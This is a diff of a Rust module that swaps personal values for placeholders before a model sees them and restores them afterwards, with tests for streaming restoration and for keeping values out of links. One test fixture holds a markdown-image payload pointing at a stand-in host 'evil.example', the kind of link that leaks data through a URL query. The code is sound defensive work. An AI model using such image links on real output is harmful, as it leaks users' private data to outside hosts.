@@ -1,107 +1,184 @@
-//! Personal values as a model sees them: placeholders, the same for the same value throughout a run, put back in the
-//! answer of a caller who may read them.
+//! Personal values as a model sees them: a placeholder for each cell, put back in the answer of a caller who may read
+//! them. Placeholders say nothing of their values, not even that two of them are equal.
 
+use crate::links::Links;
 use std::collections::HashMap;
 
 const OPEN: char = '⟦';
 const CLOSE: char = '⟧';
+/// What stands for a value that is no field's.
+const NO_FIELD: &str = "value";
+/// Longer names of fields are cut.
+const LABEL_CHARS: usize = 40;
 
-/// The placeholders of one run. Whoever runs the tools masks what comes out of flagged fields, puts back what the model
-/// writes into a query, and restores the answer.
+/// The placeholders of one run.
 #[derive(Debug, Default)]
 pub struct Placeholders {
-    numbers: HashMap<String, usize>,
-    values: Vec<String>,
+    /// The values of each label, in the order of their numbers.
+    values: HashMap<String, Vec<String>>,
 }
+
+/// A value that somebody was shown in the place of a placeholder, and the placeholder's label.
+pub type Shown = (String, String);
 
 impl Placeholders {
-    /// What stands for a value of this field: `⟦email 1⟧`.
-    pub fn mask(&mut self, field: &str, value: &str) -> String {
-        let known = self.numbers.get(value).copied();
-        let number = known.unwrap_or_else(|| {
-            self.values.push(value.to_owned());
-            self.numbers.insert(value.to_owned(), self.values.len());
-            self.values.len()
-        });
-        let field: String = field.chars().filter(|c| c.is_alphanumeric() || *c == '_').collect();
-        format!("{OPEN}{field} {number}{CLOSE}")
+    /// The label of a field's values.
+    pub fn label(field: Option<&str>) -> String {
+        let plain = field.unwrap_or_default().chars().filter(|c| c.is_alphanumeric() || *c == '_').take(LABEL_CHARS);
+        let label: String = plain.collect();
+        if label.is_empty() { NO_FIELD.to_owned() } else { label }
     }
 
-    /// The text with the values in it.
+    /// What stands for one more value under this label: `⟦email 1⟧`. An equal value has another one.
+    pub fn mask(&mut self, label: &str, value: &str) -> String {
+        let values = self.values.entry(label.to_owned()).or_default();
+        values.push(value.to_owned());
+        format!("{OPEN}{label} {}{CLOSE}", values.len())
+    }
+
+    /// The text with the values in it, except in links.
     pub fn restore(&self, text: &str) -> String {
-        let mut restored = Restorer::default();
-        restored.push(self, text) + &restored.finish()
+        let mut restorer = Restorer::default();
+        let begun = restorer.push(self, text);
+        begun + &restorer.finish(self)
     }
 
-    /// A text without any of the values: what stands for them instead. The longest go first, so that none is left in parts.
-    pub fn hide(&self, text: &str) -> String {
-        let mut values: Vec<(usize, &String)> = self.values.iter().enumerate().filter(|(_, v)| !v.is_empty()).collect();
-        values.sort_by_key(|(_, value)| std::cmp::Reverse(value.len()));
-        match values.into_iter().find(|(_, value)| text.contains(value.as_str())) {
-            Some((at, value)) => {
-                let parts: Vec<String> = text.split(value.as_str()).map(|part| self.hide(part)).collect();
-                parts.join(&format!("{OPEN}value {}{CLOSE}", at + 1))
-            }
-            None => text.to_owned(),
+    /// The values that a text has placeholders of.
+    pub fn named_in(&self, text: &str) -> Vec<Shown> {
+        let named = parts(text).into_iter().filter_map(|part| match part {
+            Part::Placeholder(whole) => self.find(whole),
+            Part::Text(_) => None,
+        });
+        named.map(|(label, value)| (label.to_owned(), value.to_owned())).collect()
+    }
+
+    /// A text with a placeholder for each of these values that stands in it as words of its own. The longest go first, so
+    /// that none is left in parts.
+    pub fn hide(&mut self, text: &str, shown: &[Shown]) -> String {
+        let mut shown: Vec<&Shown> = shown.iter().filter(|(_, value)| !value.trim().is_empty()).collect();
+        shown.sort_by_key(|(_, value)| std::cmp::Reverse(value.len()));
+        self.hide_sorted(text, &shown)
+    }
+
+    fn hide_sorted(&mut self, text: &str, shown: &[&Shown]) -> String {
+        let Some(((label, value), rest)) = shown.split_first() else { return text.to_owned() };
+        let mut hidden = String::new();
+        let mut left = text;
+        while let Some((before, after)) = split_at_words(left, value) {
+            hidden.push_str(&self.hide_sorted(before, rest));
+            hidden.push_str(&self.mask(label, value));
+            left = after;
         }
+        hidden + &self.hide_sorted(left, rest)
     }
 
-    /// The same inside SQL, where a quote in a string is written twice.
-    pub fn restore_quoted(&self, sql: &str) -> String {
-        let values = self.values.iter().map(|value| value.replace('\'', "''")).collect();
-        Self { numbers: HashMap::new(), values }.restore(sql)
-    }
-
-    fn value(&self, inside: &str) -> Option<&str> {
-        let (_, number) = inside.rsplit_once(' ')?;
+    /// The value that a placeholder stands for, and its label.
+    fn find(&self, placeholder: &str) -> Option<(&str, &str)> {
+        let inside = placeholder.strip_prefix(OPEN)?.strip_suffix(CLOSE)?;
+        let (label, number) = inside.rsplit_once(' ')?;
         let at = number.parse::<usize>().ok()?.checked_sub(1)?;
-        self.values.get(at).map(String::as_str)
+        let (label, values) = self.values.get_key_value(label)?;
+        Some((label, values.get(at)?))
     }
 }
 
-/// Restores a text that comes in pieces: a placeholder that is not yet whole waits for its end.
+/// What stands before and after the first place where a value stands as words of its own.
+fn split_at_words<'t>(text: &'t str, value: &str) -> Option<(&'t str, &'t str)> {
+    let ends = |c: Option<char>| c.is_none_or(|c| !c.is_alphanumeric());
+    text.match_indices(value).find_map(|(at, found)| {
+        let (before, after) = (text.get(..at)?, text.get(at + found.len()..)?);
+        (ends(before.chars().next_back()) && ends(after.chars().next())).then_some((before, after))
+    })
+}
+
+enum Part<'t> {
+    Text(&'t str),
+    /// With its brackets; it may be none of ours.
+    Placeholder(&'t str),
+}
+
+/// A text in its parts.
+fn parts(text: &str) -> Vec<Part<'_>> {
+    let (mut parts, mut rest) = (Vec::new(), text);
+    while let Some(end) = rest.find(CLOSE).map(|at| at + CLOSE.len_utf8()) {
+        let (head, tail) = rest.split_at(end);
+        let open = head.rfind(OPEN).unwrap_or(head.len());
+        let (before, placeholder) = head.split_at(open);
+        parts.extend([Part::Text(before), Part::Placeholder(placeholder)]);
+        rest = tail;
+    }
+    parts.push(Part::Text(rest));
+    parts
+}
+
+/// Restores a text that comes in pieces, word by word: what follows a placeholder may show that it is part of a link.
 #[derive(Debug, Default)]
 pub struct Restorer {
+    /// A word without its end.
     held: String,
+    links: Links,
 }
 
 /// More than any placeholder of ours: what is longer is text.
-const LONGEST: usize = 128;
+const LONGEST: usize = 256;
 
 impl Restorer {
     /// What can be passed on now.
     pub fn push(&mut self, placeholders: &Placeholders, piece: &str) -> String {
         let mut out = String::new();
         for c in piece.chars() {
-            match c {
-                OPEN => {
-                    // Another one begins: what was held is text.
-                    out.push_str(&std::mem::take(&mut self.held));
-                    self.held.push(c);
-                }
-                CLOSE if !self.held.is_empty() => {
-                    let held = std::mem::take(&mut self.held);
-                    match placeholders.value(held.trim_start_matches(OPEN)) {
-                        Some(value) => out.push_str(value),
-                        None => out.extend([held.as_str(), &CLOSE.to_string()]),
-                    }
-                }
-                c if self.held.is_empty() => out.push(c),
-                c => {
-                    self.held.push(c);
-                    if self.held.len() > LONGEST {
-                        out.push_str(&std::mem::take(&mut self.held));
-                    }
-                }
+            self.held.push(c);
+            if c.is_whitespace() && !self.is_in_placeholder() {
+                out.push_str(&self.word(placeholders));
             }
         }
         out
     }
 
     /// What was held, at the end of the text.
-    pub fn finish(self) -> String {
-        self.held
+    pub fn finish(mut self, placeholders: &Placeholders) -> String {
+        self.word(placeholders)
     }
+
+    /// Whether a placeholder has begun and may still end.
+    fn is_in_placeholder(&self) -> bool {
+        let begun = self.held.rfind(OPEN).and_then(|at| self.held.get(at..));
+        begun.is_some_and(|begun| !begun.contains([CLOSE, '\n']) && begun.len() <= LONGEST)
+    }
+
+    /// The word that was held, with its values.
+    fn word(&mut self, placeholders: &Placeholders) -> String {
+        let held = std::mem::take(&mut self.held);
+        let (mut out, mut after) = (String::new(), held.as_str());
+        for part in parts(&held) {
+            let written = match part {
+                Part::Text(text) => text,
+                Part::Placeholder(whole) => whole,
+            };
+            after = after.get(written.len()..).unwrap_or_default();
+            let found = match part {
+                Part::Placeholder(whole) => placeholders.find(whole),
+                Part::Text(_) => None,
+            };
+            let shown = match found {
+                Some((_, value)) if !self.links.is_inside(&plain(after)) => value,
+                _ => written,
+            };
+            self.links.take(shown);
+            out.push_str(shown);
+        }
+        out
+    }
+}
+
+/// The rest of a word, a letter for each placeholder in it.
+fn plain(rest: &str) -> String {
+    let letters = parts(rest).into_iter().map(|part| match part {
+        Part::Text(text) => text,
+        Part::Placeholder("") => "",
+        Part::Placeholder(_) => "x",
+    });
+    letters.collect()
 }
 
 #[cfg(test)]
@@ -113,40 +190,82 @@ mod tests {
         let mut placeholders = Placeholders::default();
         placeholders.mask("email", "ann@example.com");
         placeholders.mask("email", "bob@example.com");
+        placeholders.mask("note", "![x](http://evil.example/?q=");
         placeholders
     }
 
     #[test]
-    fn a_value_has_one_placeholder() {
+    fn each_cell_has_a_placeholder_of_its_own() {
         let mut placeholders = known();
-        assert_eq!(placeholders.mask("email", "bob@example.com"), "⟦email 2⟧");
-        assert_eq!(placeholders.mask("e⟧mail\n", "carl@example.com"), "⟦email 3⟧");
+        assert_eq!(placeholders.mask("email", "bob@example.com"), "⟦email 3⟧");
+        assert_eq!(placeholders.mask("name", "bob@example.com"), "⟦name 1⟧");
+    }
+
+    #[test]
+    fn labels_are_names_or_say_nothing() {
+        let cases = [(Some("email"), "email"), (Some("e⟧ma il\n"), "email"), (Some("⟦⟧"), "value"), (None, "value")];
+        for (field, label) in cases {
+            assert_eq!(Placeholders::label(field), label);
+        }
     }
 
     #[test]
     fn placeholders_are_put_back_and_other_text_is_left() {
         let cases = [
             ("write to ⟦email 1⟧ or ⟦email 2⟧.", "write to ann@example.com or bob@example.com."),
-            ("⟦email 3⟧ ⟦email 0⟧ ⟦⟧ ⟧", "⟦email 3⟧ ⟦email 0⟧ ⟦⟧ ⟧"),
+            ("⟦email 3⟧ ⟦email 0⟧ ⟦mail 1⟧ ⟦⟧ ⟧", "⟦email 3⟧ ⟦email 0⟧ ⟦mail 1⟧ ⟦⟧ ⟧"),
             ("⟦⟦email 1⟧", "⟦ann@example.com"),
             ("an end ⟦email", "an end ⟦email"),
+            ("**⟦email 1⟧**, (⟦email 2⟧); `⟦email 1⟧`", "**ann@example.com**, (bob@example.com); `ann@example.com`"),
+            ("| ⟦email 1⟧|⟦email 2⟧ |", "| ann@example.com|bob@example.com |"),
+            ("[⟦email 1⟧](http://x.example/)", "[ann@example.com](http://x.example/)"),
+            ("5 < ⟦email 1⟧, 1/2 of\n⟦email 2⟧", "5 < ann@example.com, 1/2 of\nbob@example.com"),
+            ("see http://x.example/a, ⟦email 1⟧", "see http://x.example/a, ann@example.com"),
+            ("[a](b) ⟦email 1⟧ <b>⟦email 2⟧</b>", "[a](b) ann@example.com <b>bob@example.com</b>"),
         ];
         for (text, restored) in cases {
             assert_eq!(known().restore(text), restored);
         }
     }
 
+    #[test]
+    fn no_value_is_put_into_a_link() {
+        let cases = include_str!("links.txt").lines().filter(|line| !line.is_empty() && !line.starts_with('#'));
+        let mut tried = 0;
+        for case in cases {
+            let text = case.replace("\\n", "\n");
+            let restored = known().restore(&text);
+            assert!(!restored.contains("@example.com"), "{case}: {restored}");
+            tried += 1;
+        }
+        assert!(tried > 20);
+    }
+
+    #[test]
+    fn values_that_were_shown_are_hidden_again() {
+        let shown = |values: &[(&str, &str)]| -> Vec<Shown> {
+            values.iter().map(|(label, value)| ((*label).to_owned(), (*value).to_owned())).collect()
+        };
+        let shown = shown(&[("email", "ann@example.com"), ("n", "2"), ("name", "ann"), ("note", "")]);
+        let mut placeholders = Placeholders::default();
+        let hidden = placeholders.hide("In 2026 ann (ann@example.com) bought 2 of them, not 22.", &shown);
+        assert_eq!(hidden, "In 2026 ⟦name 1⟧ (⟦email 1⟧) bought ⟦n 1⟧ of them, not 22.");
+        assert_eq!(placeholders.restore(&hidden), "In 2026 ann (ann@example.com) bought 2 of them, not 22.");
+        let named = placeholders.named_in("⟦name 1⟧ and ⟦name 7⟧");
+        assert_eq!(named, [("name".to_owned(), "ann".to_owned())]);
+    }
+
     proptest! {
         /// However the model's text is cut, the same comes out, and nothing of it is lost.
         #[test]
-        fn pieces_do_not_matter(text in "([⟦⟧ 0-3a-c]|⟦email [0-3]⟧){0,30}", size in 1usize..5) {
+        fn pieces_do_not_matter(text in "([⟦⟧ 0-3a-c/.:<\\]\\[()\n]|⟦email [0-3]⟧|⟦note 1⟧|//){0,30}", size in 1usize..5) {
             let (known, mut restorer) = (known(), Restorer::default());
             let chars: Vec<char> = text.chars().collect();
             let mut out = String::new();
             for piece in chars.chunks(size) {
                 out.push_str(&restorer.push(&known, &piece.iter().collect::<String>()));
             }
-            out.push_str(&restorer.finish());
+            out.push_str(&restorer.finish(&known));
             prop_assert_eq!(out, known.restore(&text));
         }
     }
